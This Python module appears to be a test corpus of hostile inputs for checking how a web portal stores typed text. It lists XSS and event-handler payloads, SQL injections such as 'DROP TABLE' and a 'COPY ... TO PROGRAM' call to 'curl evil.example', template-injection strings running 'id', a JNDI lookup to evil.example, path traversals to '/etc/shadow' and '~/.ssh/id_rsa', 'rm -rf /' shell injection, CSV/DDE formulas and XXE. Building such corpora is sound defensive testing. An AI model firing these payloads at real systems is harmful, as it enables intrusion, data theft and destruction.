"""A corpus of hostile payloads, built from families, each with the form it is stored in.

Every family the portal must withstand is here: script and event-handler injections,
SQL fragments, template syntax of many engines, path traversal, malformed UTF-8 (as raw
bytes, since a Python string cannot hold it), control characters and null bytes, Unicode
confusables, bidi overrides, zero-width characters, emoji ZWJ sequences, huge numbers and
dates, and strings of a megabyte. Each payload knows what the portal should keep of it:
control characters other than tab, carriage return and newline are dropped and the edges
are trimmed; everything else is kept exactly.
"""

from __future__ import annotations

import functools
import itertools
import re
from dataclasses import dataclass
from urllib.parse import quote

KEPT_CONTROLS = "\t\n\r"
# Unicode's control characters (category Cc) are exactly C0, DEL and C1;
# tests/hostile/test_corpus.py checks this against unicodedata.
CONTROL_CHARACTERS = re.compile("[\x00-\x1f\x7f-\x9f]")


@functools.lru_cache(maxsize=4096)
def stored_form(text: str) -> str:
    """What the portal keeps of a typed string: no control characters but tab and newlines."""
    return CONTROL_CHARACTERS.sub(lambda m: m[0] if m[0] in KEPT_CONTROLS else "", text).strip()


@dataclass(frozen=True)
class Payload:
    """One hostile input: its family, a short name, and the text (or raw bytes) sent."""

    family: str
    name: str
    text: str
    raw: bytes | None = None  # set for malformed UTF-8: the bytes sent on the wire

    @property
    def stored(self) -> str:
        """What the portal should store and show for it."""
        return stored_form(self.text)

    @property
    def id(self) -> str:
        return f"{self.family}/{self.name}"


def _family(family: str, items: list[tuple[str, str]] | dict[str, str]) -> list[Payload]:
    pairs = items.items() if isinstance(items, dict) else items
    return [Payload(family, name, text) for name, text in pairs]


SCRIPT = _family(
    "script",
    {
        "script-tag": "<script>alert(1)</script>",
        "script-upper": "<SCRIPT>alert(1)</SCRIPT>",
        "script-src": '<script src="//evil.example/x.js"></script>',
        "script-unclosed": "<script>alert(1)",
        "script-split": "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "script-newline": "<script\n>alert(1)</script\n>",
        "img-onerror": '"><img src=x onerror=alert(1)>',
        "svg-onload": "<svg/onload=alert(1)>",
        "svg-script": "<svg><script>alert(1)</script></svg>",
        "iframe-srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
        "iframe-javascript": '<iframe src="javascript:alert(1)"></iframe>',
        "object-data": '<object data="data:text/html,<script>alert(1)</script>"></object>',
        "embed-src": '<embed src="javascript:alert(1)">',
        "form-action": '<form action="https://evil.example"><button>Continue</button></form>',
        "meta-refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
        "base-href": '<base href="https://evil.example/">',
        "link-stylesheet": '<link rel="stylesheet" href="https://evil.example/x.css">',
        "style-tag": "<style>body{background:url(javascript:alert(1))}</style>",
        "style-attribute": '<p style="background:url(javascript:alert(1))">x</p>',
        "textarea-breakout": "</textarea><script>alert(1)</script>",
        "title-breakout": "</title></head><body onload=alert(1)>",
        "option-breakout": "</option></select><script>alert(1)</script>",
        "attribute-double": '" autofocus onfocus="alert(1)',
        "attribute-single": "' autofocus onfocus=alert(1) x='",
        "javascript-url": "javascript:alert(document.cookie)",
        "javascript-link": '<a href="javascript:alert(1)">my evidence</a>',
        "vbscript-url": "vbscript:msgbox(1)",
        "data-url": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "html-entities": "&lt;script&gt; &amp;amp; &#60; &#x3C;",
        "entity-encoded-script": "&#60;script&#62;alert(1)&#60;/script&#62;",
        "html-comment": "<!-- hidden --><![CDATA[ x ]]>",
        "conditional-comment": "<!--[if IE]><script>alert(1)</script><![endif]-->",
        "mathml": '<math><mtext><table><mglyph><style><img src=x onerror="alert(1)">',
        "noscript-mxss": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
        "template-tag": "<template><script>alert(1)</script></template>",
        "xml-stylesheet": '<?xml-stylesheet href="javascript:alert(1)"?>',
        "polyglot": "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A"
        "%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e",
        "angle-fullwidth": "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
        "css-expression": '<div style="width:expression(alert(1))">',
        "srcset": '<img srcset="x 1x, javascript:alert(1) 2x">',
    },
)

_HANDLERS = (
    "onerror",
    "onload",
    "onfocus",
    "onmouseover",
    "onclick",
    "onanimationstart",
    "onpointerenter",
    "ontoggle",
    "onbegin",
    "onwheel",
    "onauxclick",
    "onbeforeinput",
)
_HANDLER_TAGS = (
    ("img", '<img src=x {handler}="alert(1)">'),
    ("details", "<details open {handler}=alert`1`>"),
    ("input", "'\"><input autofocus {handler}=alert(1)>"),
)
EVENT_HANDLER = [
    Payload("event-handler", f"{tag}-{handler}", template.format(handler=handler))
    for handler, (tag, template) in itertools.product(_HANDLERS, _HANDLER_TAGS)
]

SQL = _family(
    "sql",
    {
        "drop": "'; DROP TABLE reports; --",
        "or-true": "' OR '1'='1' --",
        "or-true-double": '" OR "1"="1" --',
        "or-numeric": "1 OR 1=1",
        "union": "1 UNION SELECT lookup_id, survivor_key FROM reports --",
        "union-null": "' UNION SELECT NULL,NULL,NULL--",
        "stacked": "1; DELETE FROM accounts; --",
        "comment-bypass": "admin'/**/OR/**/1=1#",
        "sleep": "1' AND SLEEP(5)--",
        "pg-sleep": "'; SELECT pg_sleep(5); --",
        "sqlite-master": "' UNION SELECT sql FROM sqlite_master --",
        "pragma-key": "'; PRAGMA key = 'x'; --",
        "attach": "'; ATTACH DATABASE '/tmp/x.db' AS x; --",
        "load-extension": "' AND load_extension('x') --",
        "hex-blob": "x'deadbeef'",
        "like-wildcards": "%_%' ESCAPE '\\",
        "order-by": "1 ORDER BY 99--",
        "having": "' HAVING 1=1 --",
        "information-schema": "' UNION SELECT table_name FROM information_schema.tables--",
        "copy-program": "'; COPY reports TO PROGRAM 'curl evil.example'; --",
        "nosql-operator": '{"$gt": ""}',
        "nosql-where": "'; return this.password != ''; var x='",
        "ldap": "*)(uid=*))(|(uid=*",
        "xpath": "' or name()='username' or 'x'='y",
        "backslash-quote": "\\'; DROP TABLE reports; --",
        "double-dash-only": "--",
        "semicolon-only": ";",
        "quote-only": "'",
    },
)

TEMPLATE = _family(
    "template",
    {
        "jinja-expression": "{{7*7}}",
        "jinja-config": "{{ config.items() }}{{ request.environ }}",
        "jinja-statement": "{% for x in range(3) %}{{ x }}{% endfor %}",
        "jinja-comment": "before{# hidden #}after",
        "jinja-mro": "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "jinja-cycler": "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
        "jinja-lipsum": "{{ lipsum.__globals__['os'].popen('id').read() }}",
        "jinja-raw": "{% raw %}{{ x }}{% endraw %}",
        "jinja-set": "{% set x = 7*7 %}{{ x }}",
        "jinja-filter": "{{ 'a'|attr('__class__') }}",
        "jinja-line-statement": "# for x in range(3)\n{{ x }}\n# endfor",
        "dollar-template": "${7*7}",
        "dollar-jndi": "${jndi:ldap://evil.example/a}",
        "erb": "<%= 7*7 %>",
        "erb-system": "<%= system('id') %>",
        "freemarker": '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}',
        "velocity": "#set($x = 7*7)$x",
        "thymeleaf": "[[${7*7}]]",
        "handlebars": "{{#with 'a' as |x|}}{{x}}{{/with}}",
        "mustache-triple": "{{{ raw }}}",
        "angular": "{{constructor.constructor('alert(1)')()}}",
        "vue": "{{ _c.constructor('alert(1)')() }}",
        "go-template": '{{.}}{{printf "%s" .}}',
        "smarty": "{php}echo 'x';{/php}",
        "ssi": '<!--#exec cmd="id" -->',
        "python-format": "{0.__class__} {} {name}",
        "percent-format": "%s%s%s%n %x %(name)s",
        "printf-width": "%99999999999d",
        "string-template": "$name ${name} $$",
        "razor": "@(7*7)",
    },
)


def _traversals() -> list[Payload]:
    items: dict[str, str] = {
        "unix": "../../../../etc/passwd",
        "unix-deep": "../" * 40 + "etc/shadow",
        "windows": "..\\..\\windows\\win.ini",
        "windows-drive": "C:\\Windows\\System32\\config\\SAM",
        "unc": "\\\\evil.example\\share\\x",
        "mixed": "..\\../..\\../etc/passwd",
        "absolute": "/etc/passwd",
        "file-url": "file:///etc/passwd",
        "encoded": "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
        "double-encoded": "%252e%252e%252fetc%252fpasswd",
        "overlong-slash-text": "..%c0%af..%c0%afetc%c0%afpasswd",
        "unicode-dots": "\u2024\u2024/\u2024\u2024/etc/passwd",
        "fullwidth-slash": "..\uff0f..\uff0fetc\uff0fpasswd",
        "null-terminated": "../../etc/passwd\x00.jpg",
        "dot-segments": "./././././etc/passwd",
        "triple-dot": ".../.../etc",
        "instance": "../instance/secrets/database.key",
        "proc": "/proc/self/environ",
        "dev": "/dev/zero",
        "tilde": "~/.ssh/id_rsa",
        "trailing-dot": "evidence.txt.",
        "reserved-name": "CON",
        "reserved-name-ext": "nul.txt",
        "alternate-stream": "evidence.txt::$DATA",
        "url-path": "/static/../../portal/__init__.py",
        "query": "?next=//evil.example",
        "protocol-relative": "//evil.example/%2e%2e",
    }
    return _family("path", items)


PATH = _traversals()

_MALFORMED: dict[str, bytes] = {
    "lone-continuation": b"a\x80b",
    "lone-ff": b"before\xff\xfeafter",
    "overlong-slash": b"..\xc0\xaf..\xc0\xafetc",
    "overlong-nul": b"a\xc0\x80b",
    "overlong-3-byte": b"a\xe0\x80\xafb",
    "overlong-4-byte": b"a\xf0\x80\x80\xafb",
    "surrogate-high": b"a\xed\xa0\x80b",
    "surrogate-low": b"a\xed\xbf\xbfb",
    "surrogate-pair": b"a\xed\xa0\xbd\xed\xb8\x80b",
    "truncated-2": b"end\xc3",
    "truncated-3": b"end\xe2\x82",
    "truncated-4": b"end\xf0\x9f\x98",
    "above-unicode": b"a\xf4\x90\x80\x80b",
    "five-byte": b"a\xf8\x88\x80\x80\x80b",
    "six-byte": b"a\xfc\x84\x80\x80\x80\x80b",
    "latin1": "caf\xe9 cr\xe8me".encode("latin-1"),
    "cp1252-quotes": b"\x93quoted\x94 \x96 dash",
    "utf16-le-bom": "\ufeffhi".encode("utf-16-le"),
    "mixed-valid-invalid": "ok é ".encode() + b"\xff" + " ✓".encode(),
    "script-with-invalid": b"<scr\xffipt>alert(1)</scr\xffipt>",
}
MALFORMED_UTF8 = [
    Payload("malformed-utf8", name, raw.decode("utf-8", "replace"), raw)
    for name, raw in _MALFORMED.items()
]

_C0 = [chr(c) for c in range(0x20) if chr(c) not in KEPT_CONTROLS]
_C1 = [chr(c) for c in (0x7F, 0x80, 0x85, 0x9B, 0x9F)]
CONTROL = [
    Payload("control", f"u{ord(ch):04x}-inside", f"a{ch}b") for ch in [*_C0, *_C1]
] + _family(
    "control",
    {
        "null-bytes": "\x00\x00a\x00b\x00\x00",
        "null-in-markup": "<scr\x00ipt>alert(1)</scr\x00ipt>",
        "ansi-colour": "\x1b[31mred\x1b[0m",
        "ansi-title": "\x1b]0;owned\x07",
        "csi-8bit": "\x9b31mred",
        "backspaces": "secret\x08\x08\x08\x08\x08\x08public",
        "only-controls": "\x00\x01\x02 text \x1f",
        "tab-and-newlines": "line one\n\tline two\r\nline three",
        "crlf-header": "x\r\nSet-Cookie: a=b",
        "crlf-body": "Content-Type: text/html\r\n\r\n<h1>forged</h1>",
        "lone-cr": "a\rb\rc",
        "form-feed": "page\x0cbreak",
        "vertical-tabs": "\x0bcell\x0bcell\x0b",
        "unicode-whitespace-edges": "\u3000\u00a0\u2003padded\u2028",
    },
)

CONFUSABLE = _family(
    "confusable",
    {
        "cyrillic-paypal": "\u0440\u0430\u0443\u0440\u0430l",
        "fullwidth-pc": "\uff30\uff23 \uff33\uff4d\uff49\uff54\uff48",
        "greek-scotland-yard": "\u0405c\u03bftland \u03a5ard",
        "cyrillic-police": "\u0440\u043e\u0435\u0456\u0441\u0435",
        "mathematical-bold": "\U0001d40f\U0001d428\U0001d425\U0001d422\U0001d41c\U0001d41e",
        "double-struck": "\U0001d54f\U0001d550\u2124 \U0001d7d8\U0001d7d9",
        "script-letters": "\u212c\u2130\u2131\u210b\u2110",
        "roman-numerals": "\u2160\u2161\u2162 \u216b",
        "digit-lookalikes": "\u0660\u06f1\u0968\u09e9 \U0001d7ce",
        "latin-small-capitals": "\u1d18\u1d04 \ua731\u1d0d\u026a\u1d1b\u029c",
        "dotless-i": "\u0131stanbul \u0130STANBUL",
        "ligatures": "\ufb01le \ufb02oor \ufb00",
        "decomposed-accent": "Rene\u0301e and Ren\u00e9e",
        "combining-zalgo": "Z\u0334\u0321\u0322a\u0337l\u0338g\u0335o\u0336",
        "combining-overload": "a" + "\u0300" * 300,
        "cherokee": "\u13a0\u13a1\u13a2 \u13aa\u13ab",
        "armenian-o": "g\u0585\u0585gle",
        "superscripts": "PC\u00b9\u00b2\u00b3 \u2074\u2075",
        "kelvin-angstrom": "\u212a \u212b \u2126",
        "hangul-filler": "a\u3164b\u115fc",
    },
)

BIDI = _family(
    "bidi",
    {
        "rlo-extension": "\u202egnp.exe",
        "rlo-officer": "PC \u202e4321\u202c Smith",
        "lro": "\u202dabc\u202c",
        "rle": "\u202bright\u202c",
        "lre": "\u202aleft\u202c",
        "pdf-alone": "\u202c\u202c",
        "rli": "\u2067isolated\u2069",
        "lri": "\u2066isolated\u2069",
        "fsi": "\u2068first strong\u2069",
        "rlm-lrm": "a\u200fb\u200ec",
        "alm": "\u061cx",
        "hebrew-arabic": "\u05e9\u05dc\u05d5\u05dd, "
        "\u0645\u0631\u062d\u0628\u0627 \u0628\u0643\u0645",
        "trojan-source": "admin\u202e \u2066// check later\u2069 \u2066",
        "unbalanced": "\u202e\u202e\u202e\u2067\u2067",
        "rtl-in-markup": "<b>\u202etpircs</b>",
    },
)

ZERO_WIDTH = _family(
    "zero-width",
    {
        "zwsp": "a\u200bb",
        "zwnj": "a\u200cb",
        "zwj": "a\u200db",
        "bom-inside": "a\ufeffb",
        "word-joiner": "a\u2060b",
        "invisible-separator": "a\u2063b",
        "invisible-plus": "1\u20642",
        "soft-hyphen": "Scot\u00adland Yard",
        "mongolian-vowel-separator": "a\u180eb",
        "all-together": "\u200b\u200c\u200d\u2060\ufeffPC\u200b Smith\u200b",
        "line-separators": "a\u2028b\u2029c",
        "tag-characters": "hi\U000e0041\U000e0042",
        "variation-selectors": "a\ufe00\ufe0f\U000e0100",
    },
)

EMOJI = _family(
    "emoji",
    {
        "plain": "\U0001f600\U0001f64f\U0001f3fd\U0001f494",
        "family-zwj": "\U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466",
        "couple-kiss": "\U0001f469\u200d\u2764\ufe0f\u200d\U0001f48b\u200d\U0001f468",
        "skin-tones": "\U0001f44b\U0001f3fb\U0001f44b\U0001f3fc\U0001f44b\U0001f3ff",
        "profession-zwj": "\U0001f46e\U0001f3fe\u200d\u2640\ufe0f",
        "flag-regional": "\U0001f1ec\U0001f1e7\U0001f1fa\U0001f1e6",
        "flag-tag-sequence": "\U0001f3f4\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067"
        "\U000e007f",
        "keycap": "1\ufe0f\u20e3#\ufe0f\u20e3",
        "rainbow-flag": "\U0001f3f3\ufe0f\u200d\U0001f308",
        "broken-zwj": "\u200d\U0001f469\u200d\u200d",
        "lone-modifier": "\U0001f3fd",
        "long-zwj-chain": "\u200d".join(["\U0001f469"] * 50),
        "text-presentation": "\u2764\ufe0e \u2764\ufe0f",
        "emoji-in-markup": "<b>\U0001f600</b>",
        "emoji-flood": "\U0001f600" * 150,
    },
)

HUGE_NUMBER = _family(
    "huge-number",
    {
        "nines-5000": "9" * 5000,
        "nines-200": "9" * 180,
        "float-max": "1.7976931348623157e308",
        "float-overflow": "1e309",
        "negative-overflow": "-1e309",
        "tiny": "4.9e-324",
        "exponent-huge": "1e99999999999",
        "int64-max": str(2**63 - 1),
        "int64-overflow": str(2**63),
        "uint64-overflow": str(2**64),
        "int64-min-overflow": str(-(2**63) - 1),
        "int32-overflow": "2147483648",
        "negative-zero": "-0",
        "nan": "NaN",
        "infinity": "Infinity",
        "negative-infinity": "-Infinity",
        "hex": "0x7fffffffffffffff",
        "octal": "0o777777777777777777777",
        "binary": "0b" + "1" * 150,
        "underscored": "1_000_000_000_000_000_000",
        "arabic-indic-digits": "\u0661\u0662\u0663\u0664\u0665",
        "date-huge-year": "99999-12-31",
        "date-year-zero": "0000-00-00",
        "date-invalid-day": "2026-02-30",
        "date-negative": "-2026-01-01",
        "date-overflow-month": "2026-13-01",
        "date-epoch-huge": "253402300800",
        "iso-datetime": "9999-12-31T23:59:59.999999999Z",
        "percent-huge": "1e308%",
    },
)

INJECTION_MISC = _family(
    "injection-misc",
    {
        "shell": "$(rm -rf /); `id` | cat /etc/shadow",
        "shell-backticks": "`reboot`",
        "csv-formula": '=HYPERLINK("http://evil.example","click")',
        "csv-dde": "=cmd|' /C calc'!A0",
        "csv-plus": "+1+cmd|'/c calc'!A1",
        "csv-at": "@SUM(1+1)*cmd|' /C calc'!A0",
        "json-breakout": '"}, "officers": [{"name": "x"}], "a": "\\"\\\\',
        "json-proto": '{"__proto__": {"admin": true}}',
        "xml-entity": '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><x>&xxe;</x>',
        "xml-billion-laughs": '<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;">',
        "email-header": "victim@example.org\r\nBcc: everyone@example.org",
        "smtp-dot": "line\r\n.\r\nMAIL FROM:<x@evil.example>",
        "log-forging": "ok\n2026-01-01 INFO signed in as admin",
        "url-redirect": "https://evil.example/@charity.example",
        "markdown-link": "[click](javascript:alert(1)) ![x](https://evil.example/t.png)",
        "pdf-js": "/JS (app.alert(1)) /OpenAction",
        "latex": "\\input{/etc/passwd} \\write18{id}",
        "regex-dos": "a" * 150 + "!",
        "yaml": "!!python/object/apply:os.system ['id']",
        "pickle-ish": "cos\nsystem\n(S'id'\ntR.",
        "header-unicode-newline": "x\u0085Set-Cookie: a=b",
        "host-header": "Host: evil.example",
        "backslashes": "\\\\\\\\\\",
        "quotes-mix": "'\"`\u2018\u2019\u201c\u201d",
        "less-than-only": "<",
        "ampersand-only": "&",
    },
)

_MEGABYTE = 1_000_000
LONG = _family(
    "long",
    {
        "word-180": "W" * 180,
        "word-2000-with-markup": ("<b>x</b>" * 250)[:1990],
        "account-99990": ("He said nobody would believe me. " * 3100)[:99_990],
        "supercali-20000": "Supercalifragilistic" * 1000,
    },
)
# Over every limit: refused with a clear message, the form kept, nothing stored.
MEGABYTE = _family(
    "megabyte",
    {
        "ascii": "A" * _MEGABYTE,
        "script-repeated": ("<script>alert(1)</script>" * (_MEGABYTE // 25 + 1))[:_MEGABYTE],
        "accented": "\u00e9" * (_MEGABYTE // 2),
        "emoji": "\U0001f600" * (_MEGABYTE // 4),
    },
)

PAYLOADS: list[Payload] = [
    *SCRIPT,
    *EVENT_HANDLER,
    *SQL,
    *TEMPLATE,
    *PATH,
    *MALFORMED_UTF8,
    *CONTROL,
    *CONFUSABLE,
    *BIDI,
    *ZERO_WIDTH,
    *EMOJI,
    *HUGE_NUMBER,
    *INJECTION_MISC,
    *LONG,
    *MEGABYTE,
]
FAMILIES = sorted({p.family for p in PAYLOADS})
BY_ID = {p.id: p for p in PAYLOADS}


def marker(index: int) -> str:
    """A distinctive tag to find a payload again, anywhere it might have been stored."""
    return f"QZ{index:04d}XV"


def percent_encoded(value: str | bytes) -> str:
    """A form value as an urlencoded body carries it (raw bytes kept as they are)."""
    return quote(value if isinstance(value, bytes) else value.encode(), safe="")
